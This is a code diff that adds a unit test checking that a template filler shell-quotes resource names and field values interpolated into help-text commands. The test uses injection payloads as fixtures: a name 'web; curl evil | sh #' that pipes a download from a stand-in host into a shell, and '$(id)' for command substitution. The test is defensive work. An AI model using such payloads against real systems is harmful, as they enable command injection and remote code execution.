@@ -1,3 +1,4 @@
+import { shellQuote } from '../connect/shellQuote';
 import { FieldValue, ResourceTexts } from '../model';
 import { fillResourceTexts, resourceTextValues } from './resourceTexts';
 
@@ -54,6 +55,30 @@ describe('fillResourceTexts', () => {
         { 'spec.issuerRef': { name: 'ca' } },
       ),
     ).toEqual({ title: 'Not issued', steps: ['Wait.'] });
+  });
+
+  it('quotes what is part of a command, which a cluster could have made one of its own', () => {
+    const name = 'web; curl evil | sh #';
+    const { steps } =
+      fillResourceTexts({
+        metadata: { ...metadata, name },
+        fields: { 'spec.host': '$(id)', 'spec.note': 'a b' },
+        guide: {
+          texts: {
+            steps: [
+              'Run `app get {{metadata.name}} -n {{metadata.namespace}} --host={{ spec.host }}`.',
+              'It says {{spec.note}}.',
+            ],
+          },
+        },
+      }) ?? {};
+    expect(steps).toEqual([
+      `Run \`app get ${shellQuote(name)} -n shop --host=${shellQuote(
+        '$(id)',
+      )}\`.`,
+      'It says a b.',
+    ]);
+    expect(shellQuote(name)).not.toBe(name);
   });
 
   it('does not fill in what a value says', () => {
